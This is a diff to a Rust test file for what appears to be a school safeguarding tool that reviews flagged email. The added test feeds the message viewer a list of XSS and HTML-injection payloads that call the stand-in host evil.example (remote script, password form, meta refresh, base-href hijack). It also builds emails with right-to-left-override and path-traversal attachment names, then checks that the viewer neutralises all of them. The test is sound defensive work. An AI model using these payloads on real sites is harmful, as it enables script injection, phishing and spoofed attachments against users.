@@ -5,8 +5,12 @@ use super::{
     Browser, DEPUTY, School, gate,
     queue::{STRANGER, SUBJECT, colleague_elsewhere, ids, quarantined},
 };
-use crate::gate::{Gate, HEAD, LEAD, PUPIL, TEACHER};
+use crate::{
+    dangers::GROOMING,
+    gate::{Gate, HEAD, LEAD, PUPIL, TEACHER},
+};
 use reqwest::StatusCode;
+use std::fs;
 
 const GOVERNOR: &str = "g.whitlock@oakfield.example";
 const ADMIN: &str = "s.adeyemi@oakfield.example";
@@ -70,6 +74,8 @@ fn an_item_is_opened_with_a_purpose_and_decided_in_three_steps() {
     );
     assert!(message.text.contains("<mark>") && !message.text.contains("<script"), "{}", message.text);
 
+    assert!(open.contains("Nothing that this rule found was decided"), "{open}");
+
     // Another reviewer at it is seen by name and office.
     let seen = head.get(&place).text;
     assert!(seen.contains("(safeguarding lead)"), "{seen}");
@@ -80,6 +86,13 @@ fn an_item_is_opened_with_a_purpose_and_decided_in_three_steps() {
     assert_eq!(kept.leads_to(), format!("{place}?said=keep"), "{}", kept.text);
     assert_eq!(state(&gate, &id), "kept-as-evidence");
     assert!(lead.get(&format!("{place}?said=keep")).text.contains("Undo"));
+    let judged = lead.get(&place).text;
+    assert!(judged.contains("In 90 days 1 of 1 decided items"), "{judged}");
+    let bundle = lead.post(&format!("{place}/bundle"), &[]);
+    assert_eq!(
+        (bundle.status, &bundle.headers["content-type"]),
+        (StatusCode::OK, &"application/zip".parse().unwrap())
+    );
     lead.post(&format!("{place}/decide"), &[("act", "reopen"), ("words", "a slip")]);
     assert_eq!(state(&gate, &id), "open");
     // Of contact the gate writes to no party.
@@ -135,4 +148,70 @@ fn an_item_is_not_there_for_whoever_has_no_business_with_it() {
     assert!(Browser::new(&gate).get(&format!("/queue/{id}")).leads_to().starts_with("/sign-in"));
     let mut head = school.head.browser;
     assert_eq!(head.get(&format!("/queue/{id}")).status, StatusCode::OK, "{HEAD}");
+}
+
+/// Bodies that would act, load or lead away; `evil.example` is wherever they would go.
+const HOSTILE: [&str; 12] = [
+    "<script src=http://evil.example/x.js></script>",
+    "<img src=http://evil.example/p.gif onerror=alert(1)>",
+    "<svg onload=alert(1)><use href=http://evil.example/s.svg#x></svg>",
+    "<style>@import 'http://evil.example/c.css';</style>",
+    "<p style='background:url(http://evil.example/b.png);position:fixed;inset:0'>x</p>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<form action=http://evil.example><input name=password></form>",
+    "<a href=javascript:alert(1)>x</a><a href=data:text/html,x>y</a><a href=http://evil.example>z</a>",
+    "<iframe src=http://evil.example></iframe><object data=http://evil.example></object>",
+    "<table background=http://evil.example/t><tr><td colspan=65000 rowspan=65000>x</table>",
+    "</div></body></html><script>alert(1)</script>",
+    "<base href=http://evil.example/><link rel=stylesheet href=/c.css>",
+];
+
+#[test]
+fn hostile_messages_are_shown_as_text_with_names_made_safe() {
+    let gate = gate();
+    for hostile in HOSTILE {
+        let raw = format!(
+            "From: \"<script>alert(1)</script>\" <{STRANGER}>\r\nTo: {PUPIL}\r\nSubject: <img src=x onerror=alert(1)> \
+             =?utf-8?Q?=E2=80=AE?=txt.exe\r\nMessage-ID: <h{}@client.example>\r\nMIME-Version: 1.0\r\n\
+             Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
+             <p>{GROOMING}</p>{hostile}\r\n--edge\r\nContent-Type: text/plain; name=\"../../<b>x\u{202e}gpj.txt\"\r\n\
+             Content-Disposition: attachment\r\n\r\n<script>alert(2)</script>\r\n--edge--\r\n",
+            hostile.len()
+        );
+        assert!(gate.send_unproved(STRANGER, &[PUPIL], &raw).starts_with("250"), "{hostile}");
+    }
+    let all = ids(&gate);
+    assert_eq!(all.len(), HOSTILE.len());
+    let school = School::of(&gate);
+    let mut lead = school.officer(&gate, LEAD, "lead").browser;
+    for id in all {
+        let page = opened(&mut lead, &id);
+        for bad in ["<script>alert", "<img src", "onerror=alert(1)>", "\u{202e}", "../../", "evil.example"] {
+            assert!(!page.contains(bad), "{bad}: {page}");
+        }
+        let message = lead.get(&format!("/queue/{id}/message"));
+        assert!(message.headers["content-security-policy"].to_str().unwrap().starts_with("sandbox;"));
+        assert_eq!(message.headers["x-frame-options"], "SAMEORIGIN");
+        for bad in [
+            "<script",
+            "<img",
+            "<svg",
+            "<form",
+            "<a ",
+            "<iframe",
+            "<object",
+            "<meta http",
+            "<base",
+            "<link",
+            "evil.example",
+            "\u{202e}",
+        ] {
+            assert!(!message.text.contains(bad), "{bad}: {}", message.text);
+        }
+        assert!(
+            message.text.contains("<mark>") && message.text.contains("&lt;script&gt;alert(2)"),
+            "{}",
+            message.text
+        );
+    }
 }
